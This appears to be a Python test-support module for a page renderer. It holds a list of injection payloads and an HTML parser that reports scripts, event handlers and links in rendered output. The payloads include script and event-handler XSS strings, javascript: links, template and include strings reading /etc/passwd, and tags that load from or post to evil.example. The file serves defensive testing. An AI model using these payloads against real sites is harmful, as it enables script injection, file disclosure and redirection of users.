"""Texts that try to become more than text in a page, and readers that see what a browser would."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

MARK = "document.documentElement.setAttribute('data-pwned','1')"
"""What the payloads run if anything runs them: a test looks for the attribute."""

PAYLOADS = (
    f"<script>{MARK}</script>",
    f"<ScRiPt >{MARK}</sCrIpT >",
    f'<script src="data:text/javascript,{MARK}"></script>',
    '<script src="https://evil.example/x.js"></script>',
    f"</script><script>{MARK}</script>",
    f"</td></tr></table><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f'<svg onload="{MARK}">',
    f"<svg/onload={MARK}>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f'<img src=x onerror="{MARK}">',
    f"<img src='x' onerror={MARK}//",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    f'<details open ontoggle="{MARK}">x</details>',
    f'<a href="javascript:{MARK}">click</a>',
    f"[click](javascript:{MARK})",
    f"![x](javascript:{MARK})",
    f"<javascript:{MARK}>",
    f'click {{: onclick="{MARK}" }}',
    f'# Title {{: #x onmouseover="{MARK}" }}',
    '--8<-- "/etc/passwd"',
    "---\ntitle: Planted\ntemplate: redirect.html\nlocation: https://evil.example\n---",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ config.__class__ }}",
    "<!-- slot: claims -->",
    "<!-- slot: register --><!-- slot: no-such-slot -->",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"\u2028{MARK}\u2029",
    "\u202egnp.exe\u202c \u2066isolate\u2069 zero\u200bwidth",
    "bell\x07 escape\x1b[31m null\x00 delete\x7f",
    f'" onmouseover="{MARK}" x="',
    f"' autofocus onfocus='{MARK}' x='",
    "`</code><b>bold</b>`",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<form action="https://evil.example/"><input name=x></form>',
    "\\u003cscript\\u003e",
    "__proto__",
    "$x^2$ $\\frac{1}{0}$ \\input{/etc/passwd}",
    "W" * 5000,
    "日本語 العربية ελληνικά 🙂",
)


class Reader(HTMLParser):
    """What is in a page: its text, and everything that could act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.scripts: list[str] = []
        self.elements: set[str] = set()
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.attributes: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        for name, value in attrs:
            self.attributes.append(value or "")
            if name.startswith("on") or name in {"srcdoc", "autofocus"}:
                self.handlers.append(f"{tag} {name}")
            if name in {"href", "src", "action", "data"}:
                self.links.append(value or "")
        if tag == "script":
            self._in_script = True
            self.scripts.append(dict(attrs).get("src") or "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


def read(file: Path) -> Reader:
    reader = Reader()
    reader.feed(file.read_text(encoding="utf-8"))
    reader.close()
    return reader
